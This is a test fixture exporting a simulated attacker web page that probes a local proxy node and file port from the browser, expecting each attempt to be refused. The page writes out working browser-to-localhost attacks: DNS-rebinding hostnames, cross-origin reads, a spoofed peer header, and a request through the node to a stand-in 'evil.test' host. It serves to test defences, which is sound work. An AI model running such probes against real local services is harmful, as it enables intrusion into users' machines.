/** A page of an attacker that tries what it can against a node on the browser’s machine. Each attempt says what it got; `refused` is what it has to say. */
export const PAGE = `<!doctype html><title>evil</title><script>
const attempts = {
  'read the first page': async () => (await fetch('http://127.0.0.1:3128/')).text(),
  'read the PAC file': async () => (await fetch('http://127.0.0.1:3128/proxy.pac')).text(),
  'embed the first page': async () => (await fetch('http://127.0.0.1:3128/', { mode: 'no-cors' })).type,
  'run the PAC file as a script': () => loads('script', 'http://127.0.0.1:3128/proxy.pac'),
  'read a rebound first page': async () => (await fetch('http://rebound.test:3128/')).text(),
  'frame a rebound first page': () => framed('http://rebound.test:3128/'),
  'have the node fetch by its path': async () => (await fetch('http://127.0.0.1:3128/http://evil.test/through')).text(),
  'send a form': async () => (await fetch('http://127.0.0.1:3128/', { method: 'POST', body: 'a=b', mode: 'no-cors' })).type,
  'open a WebSocket': () => new Promise((done, fail) => {
    const socket = new WebSocket('ws://127.0.0.1:3128/')
    socket.onopen = () => done('open')
    socket.onerror = fail
  }),
  'read the health of the port for files': async () => (await fetch('http://127.0.0.2:6515/health')).text(),
  'embed the health of the port for files': async () => (await fetch('http://127.0.0.2:6515/health', { mode: 'no-cors' })).type,
  'read the summary as a peer': async () => (await fetch('http://127.0.0.2:6515/summary', { headers: { 'Ihave-Node': '0'.repeat(32) } })).text(),
  'show an image of the port for files': () => loads('img', 'http://127.0.0.2:6515/health'),
  'read a rebound port for files': async () => (await fetch('http://rebound-files.test:6515/health')).text(),
}
function loads(name, src) {
  return new Promise((done, fail) => {
    const element = document.createElement(name)
    element.onload = () => done('loaded')
    element.onerror = fail
    element.src = src
    document.head.append(element)
  })
}
// A frame of another origin says nothing of itself, but a page of ours would have a window that can be counted into.
function framed(src) {
  return new Promise((done, fail) => {
    const frame = document.createElement('iframe')
    frame.onload = () => { try { done(frame.contentDocument.body.innerText) } catch (error) { fail(error) } }
    frame.src = src
    document.documentElement.append(frame)
  })
}
addEventListener('load', async () => {
  const told = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    const late = new Promise((_, fail) => setTimeout(fail, 4000, new Error('late')))
    try { told[name] = String(await Promise.race([attempt(), late])) } catch { told[name] = 'refused' }
  }
  await fetch('/report', { method: 'POST', body: JSON.stringify(told) })
})
</script>`
